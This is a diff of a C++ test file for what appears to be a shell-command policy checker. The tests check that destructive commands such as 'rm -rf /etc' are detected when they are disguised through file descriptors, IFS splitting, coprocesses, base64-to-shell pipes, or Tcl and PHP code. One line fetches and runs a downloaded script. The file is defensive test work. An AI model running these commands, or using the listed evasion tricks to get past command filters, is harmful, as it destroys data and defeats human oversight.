@@ -2,7 +2,6 @@
 
 #include <gtest/gtest.h>
 
-#include <array>
 #include <fstream>
 #include <set>
 #include <string>
@@ -104,130 +103,6 @@ TEST(ShellCasesTest, CommandsOfAnAttackAreJudgedAsLabelled) {
   EXPECT_GT(count, 100U);
 }
 
-/// A way to run or to hide a command. %s: the text; %q: the text as one quoted
-/// word; %b: the text in base64.
-struct Disguise {
-  const char* name;
-  const char* form;
-  bool simple_only = false;  ///< for a program with its arguments
-};
-
-constexpr auto kDisguises = std::to_array<Disguise>({
-    {"sudo", "sudo %s", true},
-    {"sudo with options", "sudo -n -u root -- %s", true},
-    {"doas", "doas -u root %s", true},
-    {"env", "env -i A=1 %s", true},
-    {"nice", "nice -n 5 %s", true},
-    {"timeout", "timeout -k 5 -s KILL 10 %s", true},
-    {"nohup", "nohup %s &", true},
-    {"setsid", "setsid -f %s", true},
-    {"stdbuf", "stdbuf -oL %s", true},
-    {"time", "time %s"},
-    {"command", "command %s", true},
-    {"exec", "exec %s", true},
-    {"xargs", "echo x | xargs -I{} %s", true},
-    {"find -exec", "find . -maxdepth 0 -exec %s \\;", true},
-    {"flock", "flock /tmp/lock %s", true},
-    {"flock -c", "flock /tmp/lock -c %q"},
-    {"watch", "watch -n 1 %q"},
-    {"busybox", "busybox sh -c %q"},
-    {"sh -c", "sh -c %q"},
-    {"bash -c with options", "bash -o pipefail -euxc %q"},
-    {"su -c", "su - root -c %q"},
-    {"eval", "eval %q"},
-    {"trap", "trap %q EXIT"},
-    {"a script in a here-document", "bash <<'END'\n%s\nEND"},
-    {"a here-string", "sh <<<%q"},
-    {"a pipe to a shell", "echo %q | sh"},
-    {"base64 to a shell", "echo %b | base64 -d | sh"},
-    {"a decoded argument", "sh -c \"$(echo %b | base64 --decode)\""},
-    {"a file that is run", "echo %q > /tmp/x; sh /tmp/x"},
-    {"a variable", "X=%q; eval \"$X\""},
-    {"a function", "f() { %s\n}; f"},
-    {"a subshell", "(%s\n)"},
-    {"a substitution", "echo \"$(%s\n)\""},
-    {"a branch", "if test -e x; then %s\nfi"},
-    {"a loop", "for i in 1 2; do %s\ndone"},
-    {"a list", "cd src && true && { %s\n}"},
-    {"gosu", "gosu root %s", true},
-    {"ssh-agent", "ssh-agent %s", true},
-    {"numactl", "numactl -N 0 %s", true},
-    {"cross-env", "cross-env A=1 %s", true},
-    {"doppler", "doppler run --config x -- %s", true},
-    {"mise", "mise exec node@20 -- %s", true},
-    {"bundle", "bundle exec %s", true},
-    {"conda", "conda run -n x %s", true},
-    {"npx", "npx -c %q"},
-    {"nix-shell", "nix-shell -p x --run %q"},
-    {"tmux", "tmux new-session -d -s x %q"},
-    {"keys for tmux", "tmux send-keys -t x %q Enter"},
-    {"screen", "screen -dmS x sh -c %q"},
-    {"hyperfine", "hyperfine -w 1 ls %q"},
-    {"parallel", "parallel ::: ls %q"},
-    {"a pipe to parallel", "echo %q | parallel"},
-    {"git rebase", "git rebase -x %q main"},
-    {"git submodule", "git submodule foreach --recursive %q"},
-    {"git bisect", "git bisect run %s", true},
-    {"an alias of git", "git config alias.x '!%s'; git x", true},
-    {"a makefile", "make -f - <<'END'\nall:\n\t@%s\nEND"},
-    {"gdb", "gdb -batch -ex 'shell %s'", true},
-    {"expect", "expect -c 'spawn %s'", true},
-    {"arguments of sh -c", "bash -c '\"$@\"' _ %s", true},
-    {"the name of sh -c", "sh -c 'eval \"$0\"' %q"},
-    {"an output substitution", "echo %q | tee >(sh) >/dev/null"},
-    {"an index", "x[$(%s\n)]=1"},
-    {"an index that is read", "ls ${x[$(%s\n)]}"},
-    {"a loop that reads", "while read -r x; do eval \"$x\"; done <<<%q"},
-    {"mapfile", "mapfile -t x <<<%q; eval \"${x[0]}\""},
-    {"a default", "${X:-sh} -c %q"},
-    {"xargs with a shell", "echo %q | xargs -I{} sh -c '{}'"},
-    {"awk", "awk 'BEGIN { \"%s\" | getline }'", true},
-    {"perl", "perl -e 'system(qw(%s))'", true},
-    {"sed", "sed '1e %s' x", true},
-    {"su", "su - x <<<%q"},
-    {"python", "python3 -c \"import os; os.system(r'''%s''')\"", true},
-});
-
-std::string Disguised(const Disguise& disguise, const std::string& text) {
-  std::string result;
-  for (std::string_view rest = disguise.form; !rest.empty();) {
-    if (rest.starts_with("%s")) {
-      result += text;
-    } else if (rest.starts_with("%q")) {
-      result += QuoteShell(text);
-    } else if (rest.starts_with("%b")) {
-      result += EncodeBase64(text);
-    } else {
-      result += rest[0];
-      rest.remove_prefix(1);
-      continue;
-    }
-    rest.remove_prefix(2);
-  }
-  return result;
-}
-
-TEST(ShellCasesTest, ARuleIsFoundBehindEachDisguise) {
-  Picks picks(FirstSeed());
-  uint64_t count = 0, next = picks.Next();
-  for (const policy::ExecRule& rule : BuiltinRules().exec_rules()) {
-    if (rule.action <= policy::Action::kAudit) continue;
-    const std::string& text = rule.examples.front().text;
-    ASSERT_TRUE(rule.examples.front().matches) << rule.id;
-    const bool simple = policy::SimpleWords(text).has_value() &&
-                        !text.contains('"') && !text.contains('\'');
-    for (const Disguise& disguise : kDisguises) {
-      if (disguise.simple_only && !simple) continue;
-      if (++count != next) continue;
-      next = picks.Next();
-      const std::string hidden = Disguised(disguise, text);
-      const CommandVerdict verdict = VerdictOn(hidden);
-      EXPECT_TRUE(IsMatchedBy(verdict, rule.id))
-          << rule.id << ", " << disguise.name << ": " << hidden;
-    }
-  }
-}
-
 /// Spellings of two commands.
 TEST(ShellCasesTest, ASpellingHidesNothing) {
   for (const char* text : {"rm$IFS-rf$IFS/etc",
@@ -268,6 +143,76 @@ TEST(ShellCasesTest, ASpellingHidesNothing) {
   }
 }
 
+/// Descriptors, coprocesses, and words that a value of IFS separates.
+TEST(ShellCasesTest, WhatReachesAShellByAnotherWayIsFollowed) {
+  for (const char* text :
+       {"exec 3<<<'rm -rf /etc'; sh <&3",
+        "exec 3<<<'rm -rf /etc'; . /dev/fd/3",
+        "exec 3<<<'rm -rf /etc'; exec 4<&3-; bash /proc/self/fd/4",
+        "exec 3<<'END'\nrm -rf /etc\nEND\nsh <&3",
+        "exec {x}<<<'rm -rf /etc'; sh <&$x",
+        "exec <<<'rm -rf /etc'; sh",
+        "exec < <(echo rm -rf /etc); . /dev/stdin",
+        "exec 3< <(echo rm -rf /etc); sh <&3",
+        "sh <&3 3<<<'rm -rf /etc'; sh 3<<<'rm -rf /etc' <&3",
+        "{ sh <&3; } 3<<<'rm -rf /etc'",
+        "read -r -u 3 x 3<<<'rm -rf /etc'; eval \"$x\"",
+        "mapfile -u 3 x 3<<<'rm -rf /etc'; eval \"${x[0]}\"",
+        "IFS=,; X=rm,-rf,/etc; $X",
+        "IFS=xy; X=rmx-rfy/etc; $X",
+        "IFS=,; $(echo rm,-rf,/etc)",
+        "X=rm,-rf,/etc; f() { local IFS=,; $X; }; f",
+        "IFS=, read -ra x <<<rm,-rf,/etc; \"${x[@]}\"",
+        "IFS=: read -r x y <<<rm:/etc; $x -rf $y",
+        "IFS=,; unset IFS; X='rm -rf /etc'; $X",
+        "coproc sh -c 'rm -rf /etc'",
+        "coproc X { rm -rf /etc; }"}) {
+    EXPECT_TRUE(IsMatchedBy(VerdictOn(text), "txfs-cmd-remove-outside"))
+        << text;
+  }
+  for (const char* text :
+       {"sh <&3", ". /dev/fd/3", "coproc sh; echo ls >&\"${COPROC[1]}\"",
+        "IFS=$Y; X=rm,-rf,/etc; $X", "read -u 3 x; $x"}) {
+    EXPECT_FALSE(VerdictOn(text).reading.unknown.empty()) << text;
+  }
+  for (const char* text :
+       {"IFS=,; X=/tmp/a,/etc; Y=$X; rm -rf \"$Y\"", "sh <&- 3<<<'rm -rf /etc'",
+        "IFS=$'\\n'; X='ls rm'; $X", "ls 3<<<'rm -rf /etc'",
+        "while read -r x <&3; do echo \"$x\"; done 3<list"}) {
+    EXPECT_FALSE(IsHindered(VerdictOn(text))) << text;
+  }
+}
+
+TEST(ShellCasesTest, CallsInCodeOfLanguagesAreFound) {
+  for (const char* text :
+       {"expect -c 'spawn rm -rf /etc; interact'",
+        "expect -c 'system \"rm -rf /etc\"'",
+        "expect <<'END'\nset timeout 5\nspawn -noecho sh -c {rm -rf /etc}\nEND",
+        "tclsh <<< 'exec rm -rf /etc'",
+        "echo 'catch {exec rm -rf {/etc}}' | tclsh8.6",
+        "tclsh <<< 'file delete -force -- /etc'",
+        "tclsh <<< 'set f [open \"|rm -rf /etc\" r]'",
+        "tclsh <<< 'puts [exec rm \\\n -rf /etc]'",
+        "tclsh <<< 'puts \"a [b] [exec rm -rf /etc]\"; exit'",
+        "echo 'exec rm -rf /etc' > a.tcl; tclsh a.tcl",
+        "php -r 'unlink(\"/etc/x\");'", "php -r '`rm -rf /etc`;'",
+        "php <<< '<?php exec(\"rm -rf /etc\");'",
+        "php -r 'pcntl_exec(\"/bin/rm\", [\"-rf\", \"/etc\"]);'",
+        "php -B 'unlink(\"/etc/x\");'", "php -R 'unlink(\"/etc/x\");'",
+        "php -r 'call_user_func(\"system\", \"rm -rf /etc\");'",
+        "php -r 'array_map(\"unlink\", [\"/etc/x\"]);'"}) {
+    EXPECT_TRUE(IsMatchedBy(VerdictOn(text), "txfs-cmd-remove-outside"))
+        << text;
+  }
+  for (const char* text :
+       {"expect -c 'spawn ssh host; expect \"x\"; send \"ls\\r\"'",
+        "tclsh <<< 'puts [exec ls]; file delete x'",
+        "tclsh <<< 'exec awk {{ print $1 }} x; puts [list {a b} [expr 1]]'",
+        "expect script.exp", "tclsh <<< 'set f [open /etc/hosts r]'"}) {
+    EXPECT_FALSE(IsHindered(VerdictOn(text))) << text;
+  }
+}
+
 TEST(ShellCasesTest, WhatTheTextWroteItselfIsFollowed) {
   for (const char* text :
        {"curl http://x > /tmp/a.sh; chmod +x /tmp/a.sh; /tmp/a.sh",
@@ -285,8 +230,9 @@ TEST(ShellCasesTest, WhatTheTextWroteItselfIsFollowed) {
 /// What the text does not tell is not refused: it is not known, and says so.
 TEST(ShellCasesTest, WhatIsNotKnownIsSaidAndRunsWhereItIsConfined) {
   for (const char* text :
-       {"$PROGRAM -rf /", "sh -c \"$SCRIPT\"", "eval \"$(ssh-agent)\"",
-        "echo 'unclosed", "if then", "sh < script", "\"$@\" x"}) {
+       {"$PROGRAM -rf /", "/bin/r[m] -rf x", "sh -c \"$SCRIPT\"",
+        "eval \"$(ssh-agent)\"", "echo 'unclosed", "if then", "sh < script",
+        "\"$@\" x"}) {
     const CommandVerdict verdict = VerdictOn(text, policy::Confinement::kRun);
     EXPECT_FALSE(IsHindered(verdict)) << text;
     EXPECT_EQ(verdict.consequence, policy::Class::kUnknown) << text;
